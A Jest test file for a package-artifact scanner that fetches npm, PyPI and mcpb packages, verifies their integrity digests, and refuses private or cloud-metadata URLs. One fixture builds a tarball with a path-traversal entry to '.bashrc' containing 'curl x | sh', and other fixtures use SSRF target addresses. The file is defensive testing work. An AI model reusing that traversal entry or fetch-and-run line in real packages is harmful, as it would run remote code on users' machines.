import { createHash } from 'node:crypto';
import { EnvReader } from '@toolport/config';
import type { Package } from '@toolport/contracts';
import { FetchError, InMemoryPackageFetcher } from '@toolport/platform';
import { tgz, zipArchive } from './__fixtures__/archive-builders';
import { tempFolder } from './__fixtures__/temp-files';
import { ArtifactFetchError } from './archive-errors';
import { readArtifactConfig } from './artifact-config';
import { createArtifactSource, fetchArtifact } from './fetch-artifact';
import { parseIntegrity } from './npm.fetcher';
import { chooseDistribution } from './pypi.fetcher';

const temp = tempFolder('fetch-spec');
afterAll(() => temp.cleanup());

const config = (env: Record<string, string> = {}) => ({ ...readArtifactConfig(new EnvReader(env)), tempDir: temp.dir });
const stdio = { type: 'stdio' as const };
const npmPkg = (identifier = 'demo', extra: Partial<Package> = {}): Package => ({ registryType: 'npm', identifier, version: '1.0.0', transport: stdio, ...extra });
const sri = (bytes: Buffer, algorithm = 'sha512') => `${algorithm}-${createHash(algorithm).update(bytes).digest('base64')}`;
const hex = (bytes: Buffer, algorithm = 'sha256') => createHash(algorithm).update(bytes).digest('hex');
const failure = (promise: Promise<unknown>) => promise.then(() => { throw new Error('expected a rejection'); }, (error: unknown) => error as ArtifactFetchError);
const rules = (result: { findings: Array<{ ruleId: string; severity: string }> }) => result.findings.map((f) => `${f.ruleId}/${f.severity}`);

const NPM = 'https://registry.npmjs.org';
const tarball = tgz([{ name: 'package/package.json', data: '{"name":"demo","version":"1.0.0"}' }, { name: 'package/index.js', data: 'module.exports = 1;\n' }]);

function npmRegistry(dist: Record<string, unknown>, body = tarball, base = NPM, encodedName = 'demo') {
  return new InMemoryPackageFetcher()
    .on(`${base}/${encodedName}/1.0.0`, { body: { name: 'demo', version: '1.0.0', dist: { tarball: `${base}/demo/-/demo-1.0.0.tgz`, ...dist } } })
    .on(`${base}/demo/-/demo-1.0.0.tgz`, { body });
}

describe('fetchArtifact: npm', () => {
  it('fetches the version document and the tarball, checks SHA-512 and strips package/', async () => {
    const fetcher = npmRegistry({ integrity: sri(tarball) });
    const result = await fetchArtifact(npmPkg(), { fetcher, config: config() });
    expect(result).toMatchObject({ integrityVerified: true, findings: [] });
    expect(result.contents).toMatchObject({ ecosystem: 'npm', identifier: 'demo', version: '1.0.0' });
    expect(result.contents!.files.map((f) => [f.path, f.text])).toEqual([['index.js', 'module.exports = 1;\n'], ['package.json', '{"name":"demo","version":"1.0.0"}']]);
    expect(fetcher.requests.map((r) => r.url)).toEqual([`${NPM}/demo/1.0.0`, `${NPM}/demo/-/demo-1.0.0.tgz`]);
  });

  it('uses the package registryBaseUrl and encodes scoped names as npm does', async () => {
    const base = 'https://npm.internal.example/repo';
    const fetcher = npmRegistry({ integrity: sri(tarball) }, tarball, base, '@acme%2fdemo');
    const result = await fetchArtifact(npmPkg('@acme/demo', { registryBaseUrl: `${base}/` }), { fetcher, config: config() });
    expect(result.integrityVerified).toBe(true);
  });

  it('falls back to the packument when the registry serves no version document', async () => {
    const fetcher = new InMemoryPackageFetcher()
      .on(`${NPM}/demo`, { body: { name: 'demo', versions: { '1.0.0': { name: 'demo', version: '1.0.0', dist: { tarball: `${NPM}/demo/-/demo-1.0.0.tgz`, integrity: sri(tarball) } } } } })
      .on(`${NPM}/demo/-/demo-1.0.0.tgz`, { body: tarball });
    const result = await fetchArtifact(npmPkg(), { fetcher, config: config() });
    expect(result.integrityVerified).toBe(true);
    expect(fetcher.requests.map((r) => r.url)).toEqual([`${NPM}/demo/1.0.0`, `${NPM}/demo`, `${NPM}/demo/-/demo-1.0.0.tgz`]);
    const otherVersion = await failure(fetchArtifact(npmPkg('demo', { version: '2.0.0' }), { fetcher, config: config() }));
    expect([otherVersion.retryable, otherVersion.kind, otherVersion.message]).toEqual([false, 'not-found', `npm package 'demo' has no version '2.0.0' at ${NPM}`]);
  });

  it('a tarball that does not match dist.integrity is a critical finding with no contents', async () => {
    const result = await fetchArtifact(npmPkg(), { fetcher: npmRegistry({ integrity: sri(Buffer.from('something else')) }), config: config() });
    expect(result.contents).toBeNull();
    expect(result.integrityVerified).toBe(false);
    expect(rules(result)).toEqual(['TP-ART-001/critical']);
    expect(result.findings[0]!.message).toMatch(/does not match its published dist.integrity: sha512 expected [0-9a-f]{128}, downloaded bytes hash to [0-9a-f]{128}/);
  });

  it('a tampered tarball that is not even gzip is reported as tampered, not just unreadable', async () => {
    const result = await fetchArtifact(npmPkg(), { fetcher: npmRegistry({ integrity: sri(tarball) }, Buffer.from('<html>hacked</html>')), config: config() });
    expect(rules(result)).toEqual(['TP-ART-001/critical']);
  });

  it('falls back to the SHA-1 shasum, checked but not counted as verified', async () => {
    const ok = await fetchArtifact(npmPkg(), { fetcher: npmRegistry({ shasum: hex(tarball, 'sha1') }), config: config() });
    expect(ok.integrityVerified).toBe(false);
    expect(ok.contents).not.toBeNull();
    expect(rules(ok)).toEqual(['TP-ART-005/low']);
    const bad = await fetchArtifact(npmPkg(), { fetcher: npmRegistry({ shasum: 'a'.repeat(40) }), config: config() });
    expect(rules(bad)).toEqual(['TP-ART-001/critical']);
  });

  it('scans a version without any digest, saying so', async () => {
    const result = await fetchArtifact(npmPkg(), { fetcher: npmRegistry({}), config: config() });
    expect(result.integrityVerified).toBe(false);
    expect(result.contents).not.toBeNull();
    expect(rules(result)).toEqual(['TP-ART-004/medium']);
  });

  it('an unsafe tarball with a valid digest is a critical finding naming the entry', async () => {
    const evil = tgz([{ name: 'package/index.js', data: '' }, { name: 'package/../../.bashrc', data: 'curl x | sh' }]);
    const result = await fetchArtifact(npmPkg(), { fetcher: npmRegistry({ integrity: sri(evil) }, evil), config: config() });
    expect(result.contents).toBeNull();
    expect(result.findings.map((f) => [f.ruleId, f.severity, f.location])).toEqual([['TP-ART-002', 'critical', 'package/../../.bashrc']]);
  });

  it('a tarball over the download limit is a high finding, not a download', async () => {
    const big = Buffer.alloc(2048, 1);
    const result = await fetchArtifact(npmPkg(), { fetcher: npmRegistry({ integrity: sri(big) }, big), config: config({ TOOLPORT_SCANNER_MAX_DOWNLOAD_BYTES: '1024' }) });
    expect(result.contents).toBeNull();
    expect(rules(result)).toEqual(['TP-ART-007/high']);
  });

  it('tells permanent failures from transient ones', async () => {
    const missing = await failure(fetchArtifact(npmPkg('nothing'), { fetcher: new InMemoryPackageFetcher(), config: config() }));
    expect(missing).toBeInstanceOf(ArtifactFetchError);
    expect([missing.retryable, missing.kind]).toEqual([false, 'not-found']);
    const down = await failure(fetchArtifact(npmPkg(), { fetcher: new InMemoryPackageFetcher().on(`${NPM}/demo/1.0.0`, { status: 503 }), config: config() }));
    expect([down.retryable, down.kind]).toEqual([true, 'server-error']);
    const refused = await failure(fetchArtifact(npmPkg(), { fetcher: new InMemoryPackageFetcher().failWith(`${NPM}/demo/1.0.0`, 'network'), config: config() }));
    expect([refused.retryable, refused.kind]).toEqual([true, 'network']);
    const slowTarball = npmRegistry({ integrity: sri(tarball) }).failWith(`${NPM}/demo/-/demo-1.0.0.tgz`, 'timeout');
    expect((await failure(fetchArtifact(npmPkg(), { fetcher: slowTarball, config: config() }))).retryable).toBe(true);
    const goneTarball = npmRegistry({ integrity: sri(tarball) }).on(`${NPM}/demo/-/demo-1.0.0.tgz`, { status: 404 });
    expect((await failure(fetchArtifact(npmPkg(), { fetcher: goneTarball, config: config() }))).retryable).toBe(false);
    const noDist = new InMemoryPackageFetcher().on(`${NPM}/demo/1.0.0`, { body: { name: 'demo' } });
    expect(await failure(fetchArtifact(npmPkg(), { fetcher: noDist, config: config() }))).toMatchObject({ retryable: false, kind: 'invalid-metadata' });
    expect(await failure(fetchArtifact(npmPkg('demo', { version: undefined }), { fetcher: noDist, config: config() }))).toMatchObject({ retryable: false, kind: 'no-version' });
    expect(await failure(fetchArtifact(npmPkg('../etc'), { fetcher: noDist, config: config() }))).toMatchObject({ retryable: false, kind: 'invalid-metadata' });
  });

  it('stops when the scan is aborted', async () => {
    const controller = new AbortController();
    controller.abort(new Error('scan timed out'));
    const source = createArtifactSource({ fetcher: npmRegistry({ integrity: sri(tarball) }), config: config() });
    await expect(source.fetch(npmPkg(), controller.signal)).rejects.toThrow('scan timed out');
  });

  it('parses SRI strings, keeping the strongest hash', () => {
    const bytes = Buffer.from('x');
    expect(parseIntegrity(`${sri(bytes, 'sha1')} ${sri(bytes)}`)).toEqual({ algorithm: 'sha512', hex: hex(bytes, 'sha512'), source: 'dist.integrity' });
    expect(parseIntegrity(`${sri(bytes, 'sha256')}?opt`)).toMatchObject({ algorithm: 'sha256' });
    expect(parseIntegrity('md5-abc')).toBeNull();
    expect(parseIntegrity(42)).toBeNull();
  });
});

const PYPI = 'https://pypi.org';
const sdist = tgz([{ name: 'demo-1.0.0/setup.py', data: 'from setuptools import setup\nsetup()\n' }, { name: 'demo-1.0.0/demo/__init__.py', data: '' }]);
const wheel = zipArchive([{ name: 'demo/__init__.py', data: 'x = 1\n' }, { name: 'demo-1.0.0.dist-info/METADATA', data: 'Name: demo\n' }]);
const pypiPkg: Package = { registryType: 'pypi', identifier: 'demo', version: '1.0.0', transport: stdio };
const file = (filename: string, packagetype: string, bytes: Buffer, sha = hex(bytes)) => ({ filename, packagetype, url: `https://files.example/${filename}`, digests: { sha256: sha } });

function pypi(urls: unknown[]) {
  const fetcher = new InMemoryPackageFetcher().on(`${PYPI}/pypi/demo/1.0.0/json`, { body: { info: { name: 'demo' }, urls } });
  fetcher.on('https://files.example/demo-1.0.0.tar.gz', { body: sdist }).on('https://files.example/demo-1.0.0-py3-none-any.whl', { body: wheel });
  return fetcher;
}

describe('fetchArtifact: PyPI', () => {
  it('prefers the sdist, checks its sha256 and strips its top folder', async () => {
    const fetcher = pypi([file('demo-1.0.0-py3-none-any.whl', 'bdist_wheel', wheel), file('demo-1.0.0.tar.gz', 'sdist', sdist)]);
    const result = await fetchArtifact(pypiPkg, { fetcher, config: config() });
    expect(result).toMatchObject({ integrityVerified: true, findings: [] });
    expect(result.contents!.files.map((f) => f.path)).toEqual(['demo/__init__.py', 'setup.py']);
  });

  it('falls back to a wheel, unpacked from a temp file that is removed afterwards', async () => {
    const result = await fetchArtifact(pypiPkg, { fetcher: pypi([file('demo-1.0.0-py3-none-any.whl', 'bdist_wheel', wheel)]), config: config() });
    expect(result.integrityVerified).toBe(true);
    expect(result.contents!.files.map((f) => f.path)).toEqual(['demo-1.0.0.dist-info/METADATA', 'demo/__init__.py']);
    const { readdirSync } = await import('node:fs');
    expect(readdirSync(temp.dir).filter((name) => name.startsWith('toolport-artifact-'))).toEqual([]);
  });

  it('a file that does not match its sha256 is critical; a missing digest is medium', async () => {
    const tampered = await fetchArtifact(pypiPkg, { fetcher: pypi([file('demo-1.0.0.tar.gz', 'sdist', sdist, 'b'.repeat(64))]), config: config() });
    expect(rules(tampered)).toEqual(['TP-ART-001/critical']);
    expect(tampered.contents).toBeNull();
    const tamperedWheel = await fetchArtifact(pypiPkg, { fetcher: pypi([file('demo-1.0.0-py3-none-any.whl', 'bdist_wheel', wheel, 'c'.repeat(64))]), config: config() });
    expect(rules(tamperedWheel)).toEqual(['TP-ART-001/critical']);
    const unsigned = await fetchArtifact(pypiPkg, { fetcher: pypi([{ ...file('demo-1.0.0.tar.gz', 'sdist', sdist), digests: {} }]), config: config() });
    expect(rules(unsigned)).toEqual(['TP-ART-004/medium']);
    expect(unsigned.contents).not.toBeNull();
  });

  it('a release with nothing to scan, or no release, fails for good', async () => {
    expect(await failure(fetchArtifact(pypiPkg, { fetcher: pypi([file('demo-1.0.0.exe', 'bdist_wininst', sdist)]), config: config() }))).toMatchObject({ retryable: false, kind: 'no-distribution' });
    expect(await failure(fetchArtifact(pypiPkg, { fetcher: new InMemoryPackageFetcher(), config: config() }))).toMatchObject({ retryable: false, kind: 'not-found' });
  });

  it('ranks distributions: tar.gz sdist, zip sdist, pure wheel, other wheels', () => {
    const urls = [file('demo-1.0.0-cp312-cp312-linux_x86_64.whl', 'bdist_wheel', wheel), file('demo-1.0.0-py3-none-any.whl', 'bdist_wheel', wheel), file('demo-1.0.0.zip', 'sdist', wheel)];
    expect(chooseDistribution({ urls })?.filename).toBe('demo-1.0.0.zip');
    expect(chooseDistribution({ urls: urls.slice(0, 2) })?.filename).toBe('demo-1.0.0-py3-none-any.whl');
    expect(chooseDistribution({ urls: 'nope' })).toBeNull();
  });
});

describe('fetchArtifact: mcpb, OCI and others', () => {
  const bundle = zipArchive([{ name: 'manifest.json', data: '{"manifest_version":"0.2","name":"demo"}' }, { name: 'server/index.js', data: 'run()\n' }]);
  const url = 'https://github.com/acme/demo/releases/download/v1.0.0/demo.mcpb';
  const mcpb = (fileSha256?: string): Package => ({ registryType: 'mcpb', identifier: url, version: '1.0.0', transport: stdio, ...(fileSha256 ? { fileSha256 } : {}) });

  it('checks the bundle against fileSha256', async () => {
    const fetcher = new InMemoryPackageFetcher().on(url, { body: bundle });
    const ok = await fetchArtifact(mcpb(hex(bundle)), { fetcher, config: config() });
    expect(ok).toMatchObject({ integrityVerified: true, findings: [] });
    expect(ok.contents!.files.map((f) => f.path)).toEqual(['manifest.json', 'server/index.js']);
    expect(rules(await fetchArtifact(mcpb('d'.repeat(64)), { fetcher, config: config() }))).toEqual(['TP-ART-001/critical']);
    const unverified = await fetchArtifact(mcpb(), { fetcher, config: config() });
    expect(rules(unverified)).toEqual(['TP-ART-004/medium']);
    expect(unverified.contents).not.toBeNull();
  });

  it('records an OCI image, or an unknown registry type, as not scanned', async () => {
    const fetcher = new InMemoryPackageFetcher();
    const oci = await fetchArtifact({ registryType: 'oci', identifier: 'ghcr.io/acme/demo:1.0.0', transport: stdio }, { fetcher, config: config() });
    expect(oci).toMatchObject({ contents: null, integrityVerified: false });
    expect(oci.findings.map((f) => [f.ruleId, f.severity, f.location])).toEqual([['TP-ART-006', 'low', 'ghcr.io/acme/demo:1.0.0']]);
    expect(oci.findings[0]!.message).toMatch(/OCI image ghcr.io\/acme\/demo:1.0.0 was not scanned/);
    const nuget = await fetchArtifact({ registryType: 'nuget', identifier: 'Acme.Demo', version: '1.0.0', transport: stdio }, { fetcher, config: config() });
    expect(rules(nuget)).toEqual(['TP-ART-006/low']);
    expect(fetcher.requests).toEqual([]);
  });
});

describe('fetchArtifact: refused URLs', () => {
  const refusal = (url: string, reason: string) => new FetchError('refused', url, `refused ${url}: ${reason}`);

  it('a refused registry, tarball, file or bundle URL is a critical TP-ART-009 finding, not a failed scan', async () => {
    const metadata = new InMemoryPackageFetcher().on(`${NPM}/demo/1.0.0`, refusal(`${NPM}/demo/1.0.0`, 'registry.npmjs.org resolves to 10.0.0.1, which is in 10.0.0.0/8 (private)'));
    const tarballUrl = 'http://169.254.169.254/latest/meta-data/demo-1.0.0.tgz';
    const tarballHop = new InMemoryPackageFetcher()
      .on(`${NPM}/demo/1.0.0`, { body: { name: 'demo', version: '1.0.0', dist: { tarball: tarballUrl, integrity: sri(tarball) } } })
      .on(tarballUrl, refusal(tarballUrl, '169.254.169.254 is in 169.254.169.254/32 (cloud metadata service)'));
    const pypiFile = 'http://10.0.0.1/demo-1.0.0.tar.gz';
    const pypi = new InMemoryPackageFetcher()
      .on('https://pypi.org/pypi/demo/1.0.0/json', { body: { urls: [{ filename: 'demo-1.0.0.tar.gz', packagetype: 'sdist', url: pypiFile, digests: { sha256: 'a'.repeat(64) } }] } })
      .on(pypiFile, refusal(pypiFile, '10.0.0.1 is in 10.0.0.0/8 (private)'));
    const bundleUrl = 'http://[::1]/demo.mcpb';
    const mcpb = new InMemoryPackageFetcher().on(bundleUrl, refusal(bundleUrl, '::1 is in ::1/128 (loopback)'));
    const cases: Array<[Package, InMemoryPackageFetcher, string]> = [
      [npmPkg(), metadata, 'resolves to 10.0.0.1, which is in 10.0.0.0/8 (private)'],
      [npmPkg(), tarballHop, '169.254.169.254 is in 169.254.169.254/32 (cloud metadata service)'],
      [{ registryType: 'pypi', identifier: 'demo', version: '1.0.0', transport: stdio }, pypi, '10.0.0.1 is in 10.0.0.0/8 (private)'],
      [{ registryType: 'mcpb', identifier: bundleUrl, version: '1.0.0', transport: stdio }, mcpb, '::1 is in ::1/128 (loopback)'],
    ];
    for (const [pkg, fetcher, reason] of cases) {
      const result = await fetchArtifact(pkg, { fetcher, config: config() });
      expect(result).toMatchObject({ contents: null, integrityVerified: false });
      expect(result.findings.map((f) => [f.ruleId, f.severity, f.location])).toEqual([['TP-ART-009', 'critical', pkg.identifier]]);
      expect(result.findings[0]!.message).toContain(reason);
      expect(result.findings[0]!.message).toContain('TOOLPORT_SCANNER_ALLOW_CIDRS');
    }
  });
});

describe('readArtifactConfig', () => {
  it('has documented defaults', () => {
    const read = new EnvReader({});
    const c = readArtifactConfig(read);
    read.done();
    expect(c).toMatchObject({
      npmRegistryUrl: 'https://registry.npmjs.org',
      pypiUrl: 'https://pypi.org',
      requestTimeoutMs: 60_000,
      maxDownloadBytes: 100 * 1024 * 1024,
      limits: { maxInflatedBytes: 200 * 1024 * 1024, maxEntries: 20_000, maxCompressionRatio: 100, maxTextBytes: 1024 * 1024 },
      allowCidrs: [],
    });
  });

  it('reads the allow-list as canonical CIDRs and reports entries that are not', () => {
    const good = new EnvReader({ TOOLPORT_SCANNER_ALLOW_CIDRS: ' 127.0.0.0/8, 10.20.0.5 ,FD00::/8,' });
    expect(readArtifactConfig(good).allowCidrs).toEqual(['127.0.0.0/8', '10.20.0.5/32', 'fd00::/8']);
    good.done();
    const bad = new EnvReader({ TOOLPORT_SCANNER_ALLOW_CIDRS: '10.0.0.0/8, intranet, 10.0.0.0/33' });
    readArtifactConfig(bad);
    expect(bad.problems).toEqual([expect.stringContaining('TOOLPORT_SCANNER_ALLOW_CIDRS')]);
    expect(bad.problems[0]).toContain('intranet, 10.0.0.0/33');
  });

  it('reads overrides and collects every problem', () => {
    const good = new EnvReader({ TOOLPORT_SCANNER_NPM_REGISTRY: 'http://127.0.0.1:4873/', TOOLPORT_SCANNER_MAX_ENTRIES: '50' });
    expect(readArtifactConfig(good)).toMatchObject({ npmRegistryUrl: 'http://127.0.0.1:4873', limits: { maxEntries: 50 } });
    good.done();
    const bad = new EnvReader({ TOOLPORT_SCANNER_PYPI_URL: 'ftp://x', TOOLPORT_SCANNER_MAX_COMPRESSION_RATIO: '1', TOOLPORT_SCANNER_MAX_ENTRY_BYTES: String(300 * 1024 * 1024) });
    readArtifactConfig(bad);
    expect(bad.problems).toHaveLength(3);
  });
});
